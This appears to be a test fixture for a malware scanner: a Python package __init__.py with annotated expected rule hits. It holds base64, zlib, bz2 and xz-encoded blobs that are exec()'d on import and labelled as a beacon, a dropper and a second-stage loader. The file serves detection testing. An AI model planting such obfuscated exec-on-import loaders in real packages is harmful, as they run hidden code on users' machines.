# canary-test: path=pkg/__init__.py
# Code hidden in encoded blobs: each blob is decoded by the engine and the
# decoded text is scanned as a layer; findings count on the blob's line.
import base64
import bz2
import lzma
import zlib

# A beacon that runs as soon as it is exec()'d: base64 of zlib of base64.
# ruleid: DECODED_NETWORK_ON_RUN, DECODED_TEXT_BLOB
_a = "eNptjsFygjAUAH+JhqJyxdEQglRwSiK3vKSFyIt1xGDx62U8e92Z3VklPu4QZgGjlweQz4GlxXgkNzTre2tkNgBFm58z1LJGHZZcEvSNW7X7Q7JkrrVfNpm94trI0jekDhSNH4ZGHYjvPy4D/qbhXyxMEGxrVVoFOt0t8inGH7q9afqPuUNv3HZQohyPlg2MVp2hm1idixFs1Jv5WU/drxKRg6n3jYhOQCrk637+ry4g6tHIMt5NPX8C9ldOLQ=="
exec(base64.b64decode(zlib.decompress(base64.b64decode(_a))))

# A dropper, hex of bz2.
# ruleid: DECODED_PROCESS_ON_RUN, DECODED_TEXT_BLOB
_b = "425a68393141592653594b7472ac0000185b80001050678010400a3e67df442000488a34f4834320f2993d4d1faa0d53d43d462640f4991a6036bc95c2a26b075bc3246c38511286a9889029fa4faf5f294752dded20aa063cb3143dec2c26860f842c93a702e5cc9a83fff16bb8bb9229c284825ba39560"
exec(bz2.decompress(bytes.fromhex(_b)))

# Network code inside a function, wrapped base64 of xz in a triple-quoted string.
# ruleid: DECODED_NETWORK_OR_PROCESS, DECODED_TEXT_BLOB
_c = """/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ACAAGpdADSbSme4Ujxz/PDtNmvEjFw9cl9Dso1T/ZR9
K8aLfBilidXOm5lP65N2l7fm1HbGrT2czpPGUcvVkhZUbJhRPPfs1hbQ3mzIIvTU5h9K+fjLVwlW
VvGWrAhShB7CmNwSsmPpO7bGBn+E4QAAAADzmU/GhcjS+gABhgGBAQAAwbH7YrHEZ/sCAAAAAARZ
Wg==
"""
exec(lzma.decompress(base64.b64decode(_c)))

# A second stage that decodes and runs more.
# ruleid: DECODED_EXEC_STAGE, DECODED_TEXT_BLOB
_d = "aW1wb3J0IGJhc2U2NApfbmV4dCA9IG9wZW4oX19maWxlX18gKyAiLmRhdCIsICJyYiIpLnJlYWQoKQpleGVjKGJhc2U2NC5iNjRkZWNvZGUoX25leHQpKQo="
exec(base64.b64decode(_d))

# Plain text in base64 (a licence blurb): a layer, and nothing else.
# ok: DECODED_NETWORK_ON_RUN, DECODED_PROCESS_ON_RUN, DECODED_NETWORK_OR_PROCESS, DECODED_EXEC_STAGE
# ruleid: DECODED_TEXT_BLOB
LICENSE_B64 = "Q29weXJpZ2h0IChjKSBFeGFtcGxlIE1haW50YWluZXJzLiBQZXJtaXNzaW9uIGlzIGhlcmVieSBncmFudGVkLCBmcmVlIG9mIGNoYXJnZSwKdG8gYW55IHBlcnNvbiBvYnRhaW5pbmcgYSBjb3B5IG9mIHRoaXMgc29mdHdhcmUsIHRvIGRlYWwgaW4gdGhlIFNvZnR3YXJlIHdpdGhvdXQgcmVzdHJpY3Rpb24uCg=="

# A digest is no blob.
# ok: DECODED_TEXT_BLOB
DIGEST = "71e35aef03099cd1f2d6446734273025a163597de93912df321ef118bf135238"
